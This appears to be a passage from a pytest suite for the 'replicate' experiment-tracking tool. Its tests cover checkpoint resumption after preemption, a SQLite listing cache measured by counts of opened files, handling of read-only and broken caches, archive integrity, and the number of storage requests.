    images, labels = datasets.load_digits(return_X_y=True)
    score = joblib.load("output/model.joblib").score(images[1500:], labels[1500:])
    assert score == max(row["best_checkpoint"]["metrics"]["accuracy"] for row in listing) > 0.8
    assert len(json.loads(run("ls", "--json").stdout)) == 1


def test_the_readme_goes_on_after_a_preemption(project):
    """With a stand-in for torch, which is too large to install for this: save() and load() of JSON."""
    (project / "torch.py").write_text("import json\nload = json.load\ndef save(state, path):\n    json.dump(state, open(path, 'w'))\n")
    (project / "train.py").write_text(textwrap.dedent("""
        import os, sys, time, torch, replicate
        params = {}
        class Model:
            def __init__(self):
                self.steps = []
            def state_dict(self):
                return self.steps
            def load_state_dict(self, steps):
                self.steps = steps
        def train(model):
            model.steps.append(step)
            if step == int(sys.argv[1]):
                os.kill(os.getpid(), 15)
                time.sleep(9)
            return 1 / len(model.steps)
        """) + readme_blocks("python")[1])
    for last in ("3", "60", "1000"):
        subprocess.run([sys.executable, "train.py", last], env=dict(os.environ, REPLICATE_JOB="7"), timeout=120)
    (document,) = stored_documents(project / "repo")
    assert [item["step"] for item in document["checkpoints"]] == list(range(100)) and document["outcome"]["status"] == "completed"
    assert json.loads(replicate.experiments.get(document["id"]).latest().open("model.pth").read()) == list(range(100))


def test_every_public_thing_has_a_docstring_and_every_exception_one_root():
    public = {name: item for name, item in vars(replicate).items() if not name.startswith("_") and callable(item)
              and getattr(item, "__module__", "") == "replicate"}
    for kind in [getattr(replicate, name) for name in replicate.__all__]:
        if isinstance(kind, type):
            public.update(("%s.%s" % (kind.__name__, name), item) for name, item in vars(kind).items()
                          if not name.startswith("_") and (callable(item) or isinstance(item, property)))
    assert [name for name, item in public.items() if not (item.__doc__ or "").strip()] == []
    for name in ("DoesNotExist", "ConfigNotFound", "ReadError", "WriteError", "RepositoryConfigurationError",
                 "IncompatibleRepositoryVersion", "CorruptedRepositorySpec"):
        assert issubclass(public[name], replicate.ReplicateError)


# ------------------------------------------------------------------------------------------------------------------
# 15  What speed rests on: counts of system calls, bytes and documents, never times
# ------------------------------------------------------------------------------------------------------------------

def many_documents(count, root="repo"):
    """A repository of documents that are old enough for the cache; returns their IDs."""
    documents = []
    for number in range(count):
        checkpoints = [checkpoint_document("%060x%04x" % (number, step), "2006-01-02T15:%02d:05Z" % step, step,
                                           {"loss": (number * 7 + step * 5) % 11 / 8, "other": step}, None, ("loss", "minimize"))
                       for step in range(3)]
        documents.append(experiment_document(
            "%064x" % (number + (1 << 200)), "2006-01-%02dT%02d:54:05.%06dZ" % (number % 28 + 1, number % 24, number),
            {"n": number, "kind": "ab"[number % 2], "same": 1}, checkpoints))
    write_repository(root, *documents)
    age(root)
    return [document["id"] for document in documents]


def age(root):
    """Let the documents look as if they had been written a minute ago."""
    for path in Path(root).glob("metadata/experiments/*"):
        then = path.stat().st_mtime - 60
        os.utime(str(path), (then, then))


def edit(root, item, old, new):
    """Change the text of a document, which looks old nevertheless."""
    path = Path(root) / "metadata/experiments" / (item + ".json")
    path.write_text(path.read_text().replace(old, new))
    os.utime(str(path), (1e9, 1e9))


@pytest.fixture
def opened_documents(monkeypatch):
    """The documents that are opened, by their IDs, in a list."""
    names, real = [], os.open

    def counted(path, *arguments, **options):
        if "metadata/experiments" in str(path) and str(path).endswith(".json"):
            names.append(Path(path).stem)
        return real(path, *arguments, **options)

    monkeypatch.setattr(os, "open", counted)
    return names


@pytest.mark.parametrize("arguments", [
    [], ["--json"], ["-q"], ["--all"], ["--sort", "loss"], ["--sort", "n-desc"], ["-f", "loss < 0.5"],
    ["-f", "kind = a", "--sort", "loss-desc"], ["-f", "n > 1000"]], ids=" ".join)
def test_a_second_listing_opens_no_document_and_prints_the_same(project, call, opened_documents, arguments):
    ids = many_documents(60)
    first = call("ls", *arguments)
    assert first[0] == 0 and sorted(opened_documents) == sorted(ids)
    opened_documents.clear()
    assert call("ls", *arguments) == call("ls", *arguments) == first
    assert opened_documents == []
    edit(project / "repo", ids[7], '"andreas"', '"someone"')
    age(project / "repo")
    changed = call("ls", *arguments)
    assert opened_documents.count(ids[7]) == 1 and len(opened_documents) == len(ids)  # all look older now
    shutil.rmtree(os.path.expanduser("~/.cache"))
    assert call("ls", *arguments) == changed


def test_only_changed_documents_are_read_again_and_only_removed_ones_to_remove_them(project, call, opened_documents):
    ids = many_documents(30)
    call("ls")
    for item in ids[3:6]:
        edit(project / "repo", item, '"same": 1', '"same": 2')
    (project / "repo/metadata/experiments" / (ids[0] + ".json")).unlink()
    path, = Path("~/.cache/replicate").expanduser().iterdir()
    with contextlib.closing(sqlite3.connect(str(path), isolation_level=None)) as database:
        database.execute("CREATE TABLE log (what TEXT, id TEXT)")
        for what, row in (("INSERT", "new"), ("DELETE", "old")):
            database.execute("CREATE TRIGGER log_{0} AFTER {0} ON rows "
                             "BEGIN INSERT INTO log VALUES ('{0}', {1}.id); END".format(what, row))
        opened_documents.clear()
        table = call("ls")[1]
        assert sorted(opened_documents) == ids[3:6] and table.count("same=2") == 3 and table.count("same=1") == 26
        assert sorted(database.execute("SELECT * FROM log")) == [("DELETE", ids[0])] + [("INSERT", item) for item in ids[3:6]]
    opened_documents.clear()
    assert call("rm", "-f", *ids[10:13])[0] == 0 and set(opened_documents) == set(ids[10:13])
    assert names_in(project / "repo/metadata/experiments") == sorted(item + ".json" for item in ids[1:10] + ids[13:])


def test_old_dates_and_recent_times_stand_in_one_listing(project, call):
    now = datetime.datetime.now(datetime.timezone.utc)
    hours = (1000, 999, 80, 74, 72.5, 71, 30, 2, 0.1)
    write_repository("repo", *[experiment_document(
        "%064x" % (number + 1), (now - datetime.timedelta(hours=back)).strftime("%Y-%m-%dT%H:%M:%S.%fZ"))
        for number, back in enumerate(hours)])
    age("repo")
    expected = [replicate.relative_time(now - datetime.timedelta(hours=back), now) for back in hours]
    for _ in range(2):
        lines = [line for line in call("ls")[1].split("\n")[1:] if line]
        assert [re.split("  +", line)[1] for line in lines] == expected


@pytest.mark.parametrize("trouble", ["locked", "no sqlite3", "other table", "full"])
def test_a_cache_that_cannot_be_used_is_no_cache(project, call, trouble, opened_documents):
    ids = many_documents(20)
    first = call("ls")
    path, = Path("~/.cache/replicate").expanduser().iterdir()
    assert call("ls") == first and len(opened_documents) == 20
    opened_documents.clear()
    if trouble == "locked":
        with contextlib.closing(sqlite3.connect(str(path), isolation_level=None)) as database:
            database.execute("BEGIN EXCLUSIVE")
            assert call("ls") == first and sorted(opened_documents) == sorted(ids)
    elif trouble == "no sqlite3":
        done = run_script("import sys\nsys.modules['sqlite3'] = sys.modules['_sqlite3'] = None\n"
                          "import replicate\nsys.exit(replicate.main(['ls']))")
        assert (done.stdout, done.stderr) == first[1:]
    elif trouble == "other table":
        with contextlib.closing(sqlite3.connect(str(path))) as database:
            database.executescript("DROP TABLE rows; CREATE TABLE rows (id INTEGER)")
        assert call("ls") == call("ls") == first
    else:
        path.unlink()
        done = run_script(LIMITS_FILE_SIZES + "    limit(9000)\n    sys.exit(replicate.main(['ls']))")
        assert (done.stdout, done.stderr) == first[1:]
    opened_documents.clear()
    assert call("ls")[0] == 0 and call("ls") == call("ls")


def test_a_cache_of_another_user_is_read_and_not_written(shared_project, monkeypatch):
    repo, cache = shared_project / "repo", shared_project / "cache"
    ids = many_documents(20, repo)
    monkeypatch.setenv("XDG_CACHE_HOME", str(cache))
    assert run("ls", "-q", cwd=str(shared_project)).stdout.split() == sorted(ids, key=lambda item: ids.index(item) % 28)
    path, = (cache / "replicate").iterdir()
    path.chmod(0o444)
    path.parent.chmod(0o555)
    cache.chmod(0o555)
    edit(repo, ids[3], '"same": 1', '"same": 2')
    before = path.read_bytes()
    done = run_script("        import sqlite3" + BECOMES_NOBODY + """
        opened, real = [], os.open
        os.open = lambda path, *more, **options: opened.append(str(path)) or real(path, *more, **options)
        print(replicate.main(["ls", "--all"]), len([path for path in opened if path.endswith(".json") and "experiments" in path]))
        """, cwd=str(shared_project))
    assert done.stdout.endswith("\n0 1\n") and done.stdout.count("same=2") == 1 and done.stderr == ""
    assert path.read_bytes() == before


def test_weights_are_read_once_and_written_once_and_no_file_stays_open(project, tmp_path, monkeypatch, counted_reads):
    """Noise as weights are: a checkpoint is one pass over the file, and nothing is left for the background."""
    content, written = os.urandom(24 << 20), []
    fill(project, {"weights": content})
    storage, sources = replicate.DiskStorage(str(tmp_path / "store")), replicate.find_sources(str(project), "weights")
    for name in ("write", "pwrite"):
        monkeypatch.setattr(os, name, lambda *more, real=getattr(os, name): written.append(real(*more)) or written[-1])
    counted_reads.clear()
    assert replicate.save_archive(storage, "checkpoints", PACKED_ID, sources)[1] is False  # it does not shrink
    assert sum(counted_reads) == len(content) and len(counted_reads) == 24
    assert len(content) < sum(written) < len(content) * 1.001 and len(written) <= 27
    counted_reads.clear()
    assert read_archive(replicate.Repository("file://%s" % (tmp_path / "store"))) == {"weights": content}
    assert sum(counted_reads) < len(content) * 1.001 + 70000  # the table once
    descriptors = os.listdir("/dev/fd")
    replicate.save_archive(storage, "checkpoints", PACKED_ID, sources)
    assert os.listdir("/dev/fd") == descriptors


@pytest.mark.parametrize("place", [5, 14, 70, 3000000, (4 << 20) - 59500])
def test_a_damaged_stored_member_is_noticed(project, tmp_path, place):
    content = os.urandom(4 << 20)
    fill(project, {"weights": content})
    repository = pack_tree(tmp_path, project, "weights", compress=False)
    with open(archive_path(repository), "r+b") as file:
        file.seek(place)
        byte, = file.read(1)
        file.seek(place)
        file.write(bytes([byte ^ 1]))
    if place == 5:  # a time in the gzip header: the content is whole
        assert read_archive(repository) == {"weights": content}
    else:
        with pytest.raises(replicate.ReadError):
            read_archive(repository)


def test_nothing_writes_on_when_saving_has_failed(project, tmp_path, monkeypatch):
    """The descriptor could belong to another file by then."""
    fill(project, {"a": os.urandom(8 << 20)})
    working, failed, real = [], threading.Event(), replicate.write_at

    def slow(file, data, position):
        working.append(1)
        try:
            if len(working) == 2:
                failed.set()
                raise OSError(errno.EIO, "the disk is broken")
            assert failed.wait(60)
            time.sleep(0.2)  # what does not wait for this piece is through by now
            return real(file, data, position)
        finally:
            working.pop()

    monkeypatch.setattr(replicate, "write_at", slow)
    with pytest.raises(replicate.WriteError, match="broken"):
        replicate.save_archive(replicate.DiskStorage(str(tmp_path / "store")), "checkpoints", PACKED_ID,
                               replicate.find_sources(str(project), "a"))
    assert working == [] and not list((tmp_path / "store").rglob("*.gz"))


def test_one_small_file_of_a_large_archive_takes_few_requests(bucket, project, tmp_path):
    fill(project, {"model/weights": os.urandom(24 << 20), "model/config.json": b"{}" * 50})
    storage = replicate.DiskStorage(str(tmp_path / "store"))
    item = hex_id("1c")
    replicate.save_archive(storage, "checkpoints", item, replicate.find_sources(str(project), "model"))
    furnish(bucket, experiment_document(hex_id("1e"), checkpoints=[checkpoint_document(item, path="model")]))
    bucket.put("checkpoints/%s.tar.gz" % item, Path(storage.path("checkpoints/%s.tar.gz" % item)).read_bytes())
    replicate.main(["ls"])
    checkpoint = replicate.experiments.list()[0].checkpoints[0]
    for read in (lambda: checkpoint.open("model/config.json").read(),
                 lambda: replicate.main(["checkout", item, "--path", "model/config.json", "-o", str(tmp_path / "out")])):
        bucket.proxy.clear()
        read()
        asked = [request for request in bucket.proxy.requests if "checkpoints/" in request.key]
        assert 0 < len(asked) <= 4 and sum(request.served for request in asked) < 1 << 20, asked
    assert (tmp_path / "out/model/config.json").read_bytes() == b"{}" * 50
